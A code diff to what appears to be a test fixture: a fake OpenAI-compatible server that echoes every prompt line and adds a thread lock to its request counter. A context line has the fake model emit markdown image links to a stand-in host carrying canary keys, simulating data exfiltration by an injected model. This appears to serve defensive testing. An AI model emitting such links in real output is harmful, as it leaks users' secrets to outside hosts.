@@ -144,11 +144,13 @@ class Obedient(BaseHTTPRequestHandler):
     """An OpenAI-compatible model without any sense: told to print everything, it prints all it was given."""
 
     asked: ClassVar[int] = 0
+    counting: ClassVar[threading.Lock] = threading.Lock()  # each request has a thread of its own
 
     def do_POST(self) -> None:
         """Each line of the prompt as a statement with a source, so that none is dropped for want of one."""
         body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
-        Obedient.asked += 1
+        with Obedient.counting:
+            Obedient.asked += 1
         given = "\n".join(message["content"] for message in body["messages"])
         said = [f"{line} [1] " for line in given.splitlines() if line.strip()]
         said += [f"![key](https://{ELSEWHERE}/?q={key}) [1] " for key in sorted(canaries(given))]
